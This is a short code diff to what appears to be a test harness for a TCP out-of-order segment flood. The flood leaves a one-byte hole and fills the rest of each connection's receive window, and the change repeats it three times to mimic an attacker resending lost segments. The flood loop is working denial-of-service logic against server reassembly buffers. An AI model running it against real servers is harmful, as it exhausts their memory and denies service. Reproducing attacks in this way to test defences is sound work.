@@ -373,13 +373,18 @@ def mode_grow_ooo(wire, args):
                 growing.discard(dp)
     grown_at = time.monotonic()
     # The flood: a one-byte hole where the server waits, then the rest of the window beyond it.
+    # Sent three times over: on a busy machine a burst this size overflows the port's RX ring
+    # (one CI run held 6,428 of 15,531 segments), and a real attacker resends what was lost;
+    # the segments that did land come again as duplicates, which hold nothing more.
     ooo = 0
-    for sp, s in st.items():
-        seq = (s["acked"] + 1) & 0xFFFFFFFF
-        while ((s["edge"] - seq) & 0xFFFFFFFF) >= mss and not seq_after(seq, s["edge"]):
-            send(sp, s, seq, mss)
-            seq = (seq + mss) & 0xFFFFFFFF
-            ooo += 1
+    for flood_pass in range(3):
+        for sp, s in st.items():
+            seq = (s["acked"] + 1) & 0xFFFFFFFF
+            while ((s["edge"] - seq) & 0xFFFFFFFF) >= mss and not seq_after(seq, s["edge"]):
+                send(sp, s, seq, mss)
+                seq = (seq + mss) & 0xFFFFFFFF
+                ooo += flood_pass == 0
+        time.sleep(0.3)
     print(json.dumps({"connections": len(conns), "grown": sum(1 for s in st.values() if s["offered"] >= target),
                       "smallest_window": min((s["offered"] for s in st.values()), default=0),
                       "segments_sent": sent, "out_of_order_segments": ooo,
